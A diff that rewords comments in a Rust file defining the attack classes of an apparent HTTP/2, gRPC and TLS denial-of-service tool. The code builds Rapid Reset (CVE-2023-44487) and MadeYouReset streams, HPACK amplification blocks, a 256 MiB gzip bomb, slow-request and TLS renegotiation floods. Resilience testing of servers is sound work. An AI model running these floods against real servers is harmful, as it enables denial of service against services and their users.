@@ -1,4 +1,4 @@
-//! The ways to attack.
+//! Classes of attacks.
 
 use std::io::Write;
 use std::sync::LazyLock;
@@ -13,34 +13,34 @@ use super::frames::Frames;
 use super::hoard::{Hoard, Protocol};
 use super::tls::{Records, TLS12, TLS13, TlsWork};
 
-/// A way to attack.
+/// A class of attack.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
 pub(crate) enum Class {
-    /// PINGs, which want to be answered
+    /// PINGs, which require a response
     Ping,
-    /// SETTINGS, which want to be acknowledged
+    /// SETTINGS, which require an acknowledgement
     Settings,
-    /// Acknowledgements of SETTINGS that nobody has sent
+    /// Acknowledgements of SETTINGS that were never sent
     SettingsAcks,
-    /// SETTINGS are never acknowledged, while calls are made
+    /// Calls without ever acknowledging SETTINGS
     NeverAcks,
-    /// PRIORITY
+    /// PRIORITY frames
     Priority,
-    /// Frames of a type that there is not
+    /// Frames of an unknown type
     Unknown,
     /// WINDOW_UPDATEs of one byte
     WindowUpdates,
-    /// Empty DATA
+    /// Empty DATA frames
     EmptyData,
-    /// DATA of one byte
+    /// DATA frames of one byte
     TinyData,
     /// A header block that never ends
     Continuation,
-    /// Streams that are opened and reset at once (CVE-2023-44487)
+    /// Streams reset immediately after they are opened (CVE-2023-44487)
     RapidReset,
     /// Streams that the server is made to reset (CVE-2025-8671)
     MadeYouReset,
-    /// More streams than there may be, none of which ends
+    /// More streams than allowed, none of which ends
     Refused,
     /// CONNECT requests
     Connect,
@@ -48,103 +48,103 @@ pub(crate) enum Class {
     BlocksOnReset,
     /// Large header blocks on a stream that ended long ago
     BlocksOnForgotten,
-    /// Fields of two octets that name an entry of 4 KB
+    /// Header fields of two octets that refer to a table entry of 4 KB
     NameCopies,
     /// Header lists that are too large
     LargeLists,
-    /// Messages that become a thousand times as large when decompressed
+    /// Messages that decompress to a thousand times their size
     GzipBomb,
-    /// Messages of 4 KiB that become 4 MiB, the most that is taken
+    /// Messages of 4 KiB that decompress to 4 MiB, the accepted maximum
     GzipSmall,
-    /// Streams of a dozen of them
+    /// Streams of a dozen such messages
     GzipStreams,
-    /// Messages of gzip members that are all empty
+    /// Messages of empty gzip members
     GzipMembers,
-    /// Requests of which one byte is missing, on as many streams as there may be
+    /// Requests that lack one byte, on as many streams as allowed
     Unfinished,
-    /// Large answers that nobody reads: the window is 0
+    /// Large responses that are never read: the window is 0
     Unread,
-    /// Half a header block, of less than any server takes for too long
+    /// Half a header block, below the size limit of every server
     HalfBlock,
-    /// Calls with metadata of 16 KiB that a table's indices name in 500 bytes, and no message
+    /// Calls without a message, with metadata of 16 KiB encoded in 500 bytes by table indices
     LargeHeads,
-    /// Whole calls with such metadata, as many in a read as come
+    /// Complete calls with such metadata, as many per read as possible
     LargeHeadCalls,
-    /// Connections that shake hands and then do nothing
+    /// Connections that are idle after the handshake
     Idle,
-    /// Requests that come a byte at a time
+    /// Requests sent one byte at a time
     SlowRequest,
-    /// Calls whose answers are not read off the socket
+    /// Calls whose responses are not read from the socket
     SlowReader,
-    /// Large responses of JSON over HTTP/1.1 that nobody reads
+    /// Large JSON responses over HTTP/1.1 that are never read
     UnreadHttp1,
-    /// The same over TLS
+    /// Large JSON responses over HTTP/1.1 and TLS that are never read
     TlsUnreadHttp1,
-    /// Large responses of which each is taken a byte every ten seconds
+    /// Large responses, each read at one byte every ten seconds
     Trickle,
-    /// The same of JSON over HTTP/2
+    /// Like trickle, with JSON over HTTP/2
     TrickleJson,
-    /// The same over TLS
+    /// Like trickle, over TLS
     TlsTrickle,
-    /// Large responses of handlers that all begin before the first has answered
+    /// Large responses of handlers that all start before the first has responded
     Tasks,
-    /// The same of JSON over HTTP/2
+    /// Like tasks, with JSON over HTTP/2
     TasksJson,
-    /// The same over TLS
+    /// Like tasks, over TLS
     TlsTasks,
-    /// TLS: connections that say nothing
+    /// TLS: connections that send nothing
     TlsSilent,
     /// TLS: half a ClientHello
     TlsHalfHello,
-    /// TLS: a ClientHello, and nothing behind it
+    /// TLS: a ClientHello and nothing more
     TlsNoFinish,
-    /// TLS: one whole handshake after the other
+    /// TLS: repeated complete handshakes
     TlsHandshakes,
-    /// TLS: garbage, on one connection after the other
+    /// TLS: garbage on successive connections
     TlsGarbage,
-    /// TLS: HTTP without TLS, on one connection after the other
+    /// TLS: HTTP without TLS on successive connections
     TlsPlain,
-    /// TLS: a message of the handshake that never ends, a byte a record
+    /// TLS: a handshake message that never ends, in records of one byte
     TlsFragments,
-    /// TLS 1.2: the client wants another handshake, again and again
+    /// TLS 1.2: repeated renegotiation requests
     TlsRenegotiation,
-    /// TLS 1.2: alerts that are warnings
+    /// TLS 1.2: warning alerts
     TlsAlerts,
-    /// TLS 1.3: KeyUpdates, which want to be answered
+    /// TLS 1.3: KeyUpdates, which require a response
     TlsKeyUpdates,
-    /// TLS: records of nothing
+    /// TLS: empty records
     TlsEmptyRecords,
-    /// TLS: an honest call's messages, a byte a record
+    /// TLS: the messages of a valid call in records of one byte
     TlsTinyRecords,
 }
 
-/// What an attacker does.
+/// Work of an attacker.
 pub(crate) enum Work {
-    /// On one connection, as much as it takes.
+    /// Sends as much as the server accepts on one connection.
     Flood { settings: &'static [Setting], acks: bool, first: fn(&mut Frames), round: fn(&mut Frames, u64) },
-    /// On some connections something, and a little more ten times a second.
+    /// Sends data on several connections, and a little more ten times per second.
     Hold {
         settings: &'static [Setting],
         reads: bool,
-        /// The end of a call counts as that of a connection does.
+        /// Whether the end of a call counts like that of a connection.
         counts_calls: bool,
         first: fn(&mut Frames),
         drip: fn(&mut Frames),
     },
-    /// On TLS.
+    /// Attacks TLS.
     Tls(TlsWork),
-    /// Responses that are not taken.
+    /// Requests responses without reading them.
     Hoard(Hoard),
 }
 
-/// A head that is all there is to a request.
+/// Flags of a header block that is the whole request.
 const WHOLE: Flags = Flags::END_HEADERS.with_if(true, Flags::END_STREAM);
 const NOTHING: fn(&mut Frames) = |_| {};
-/// So many streams a server permits at least, as RFC 9113 §6.5.2 recommends.
+/// Streams that every server should allow, as RFC 9113 §6.5.2 recommends.
 const STREAMS: usize = 100;
-/// The most that a frame may have before the server has said otherwise.
+/// Maximum frame size before the server's SETTINGS.
 const FRAME_LEN: usize = 16 << 10;
-/// `:method: GET`, indexed.
+/// Indexed field `:method: GET`.
 const GET: u8 = 0x82;
 
 fn flood(first: fn(&mut Frames), round: fn(&mut Frames, u64)) -> Work {
@@ -186,7 +186,7 @@ impl Class {
             Self::TinyData => flood(
                 |it| {
                     call(it);
-                    // A message of 4 MiB to come.
+                    // Prefix of a message of 4 MiB.
                     it.data(1, false, &[0, 0, 0x40, 0, 0]);
                 },
                 |it, _| it.data(1, false, b"x"),
@@ -211,7 +211,7 @@ impl Class {
             }),
             Self::Connect => flood(NOTHING, |it, _| {
                 let stream = it.stream();
-                // `:method: CONNECT` and `:authority: a`, literals.
+                // Literals `:method: CONNECT` and `:authority: a`.
                 let block = [&[0x02, 7][..], b"CONNECT", &[0x01, 1], b"a"].concat();
                 it.frame(Kind::Headers, Flags::END_HEADERS, stream, &block);
             }),
@@ -233,13 +233,13 @@ impl Class {
             ),
             Self::NameCopies => flood(
                 |it| {
-                    // A name of 4,000 bytes enters the table.
+                    // Adds a name of 4,000 bytes to the table.
                     let block = [&[0x40, 0x7f, 0xa1, 0x1e][..], &[b'a'; 4000], &[0]].concat();
                     let stream = it.stream();
                     it.frame(Kind::Headers, WHOLE, stream, &block);
                 },
                 |it, _| {
-                    // It is named again and again, with an empty value.
+                    // Refers to it repeatedly, with an empty value.
                     let stream = it.stream();
                     let block = [0x7e, 0].repeat(FRAME_LEN / 2);
                     it.frame(Kind::Headers, WHOLE, stream, &block);
@@ -267,7 +267,7 @@ impl Class {
                 |it| {
                     for _ in 0..STREAMS {
                         let stream = it.call("UnaryCall");
-                        // All but the last byte of a message of 4 MiB, as far as the windows go.
+                        // All but the last byte of a message of 4 MiB, as far as the windows allow.
                         it.data(stream, false, &[0, 0, 0x40, 0, 0]);
                         for _ in 0..4 {
                             it.data(stream, false, &[0; 15_000]);
@@ -329,7 +329,7 @@ impl Class {
                         it.unary(&[], false, &[0x10, 0xc0, 0xff, 0xff, 0x01]);
                     }
                 },
-                // Who reads nothing hears of an end only when it writes.
+                // A client that reads nothing notices the end only when it writes.
                 drip: |it| {
                     it.window_update(0, 1);
                     it.is_urgent = true;
@@ -350,13 +350,13 @@ impl Class {
             Self::TlsGarbage => Work::Tls(TlsWork::Knock(|| b"SSH-2.0-OpenSSH_9.9\r\n".repeat(50))),
             Self::TlsPlain => Work::Tls(TlsWork::Knock(|| PREFACE.to_vec())),
             Self::TlsFragments => Work::Tls(TlsWork::Knock(|| {
-                // A ClientHello of 64 KiB less one; each byte in a record of its own.
+                // A ClientHello of 64 KiB less one, with each byte in its own record.
                 let message = [&[1, 0, 0xff, 0xff][..], &vec![3; 0xfff0]].concat();
                 message.iter().flat_map(|byte| [22, 3, 1, 0, 1, *byte]).collect()
             })),
             Self::TlsRenegotiation => records(&TLS12, |_| (), |it, _| it.hello_again()),
             Self::TlsAlerts => {
-                // The level of a warning, and `no_renegotiation`.
+                // Warning level, and `no_renegotiation`.
                 records(&TLS12, |_| (), |it, _| it.record(ContentType::Alert, &[1, 100]))
             }
             Self::TlsKeyUpdates => Work::Tls(TlsWork::KeyUpdates),
@@ -376,15 +376,15 @@ impl Class {
     }
 }
 
-/// Less than half of what gRPC C++ takes of a header block, and with a CONTINUATION.
+/// Less than half of the header block that gRPC C++ accepts, and sent with a CONTINUATION.
 const HALF_BLOCK_LEN: usize = 7_000;
-/// A list of 16 KiB at most, of fields that count 33 bytes each.
+/// Fields of 33 bytes each, in a list of at most 16 KiB.
 const FIELDS: usize = 470;
-/// A message in so many DATA frames of this length.
+/// DATA frames of a message, and their length.
 const PARTS: u64 = 4000;
 const PART_LEN: usize = 1000;
 
-/// HTTP/2 begins, and a call whose messages will come.
+/// Starts HTTP/2 and a call with a stream of messages.
 fn begin_tiny(records: &mut Records) {
     let mut frames = Frames::new();
     frames.raw(PREFACE);
@@ -394,27 +394,27 @@ fn begin_tiny(records: &mut Records) {
     records.record(ContentType::ApplicationData, &frames.out);
 }
 
-/// A call that takes a stream of messages, on the first stream.
+/// Starts a client-streaming call on the first stream.
 fn call(frames: &mut Frames) {
     frames.call("StreamingFromClient");
 }
 
-/// As many whole calls as there may be, with metadata of 16 KiB.
+/// Sends as many complete calls as allowed, with metadata of 16 KiB.
 fn large_head_calls(frames: &mut Frames) {
     for _ in 0..STREAMS {
         frames.unary(&[("a", ""); FIELDS], false, b"");
     }
 }
 
-/// A gzip member of nothing.
+/// An empty gzip member.
 const EMPTY_MEMBER: [u8; 20] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0];
 
 /// A gzip member of 256 MiB of zeros.
 static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| gzip(&vec![0; 256 << 20]));
 
-/// One of 4 MiB: a SimpleRequest with a field of so many bytes that nobody knows.
+/// A gzip member of 4 MiB: a SimpleRequest with an unknown field of that size.
 static SMALL_BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
-    // Field 100, of bytes; a varint of four bytes for its length.
+    // Field 100 of type bytes, with a four-byte varint for its length.
     let len = (4 << 20) - 6;
     let head =
         [0xa2, 0x06, len as u8 | 0x80, (len >> 7) as u8 | 0x80, (len >> 14) as u8 | 0x80, (len >> 21) as u8];
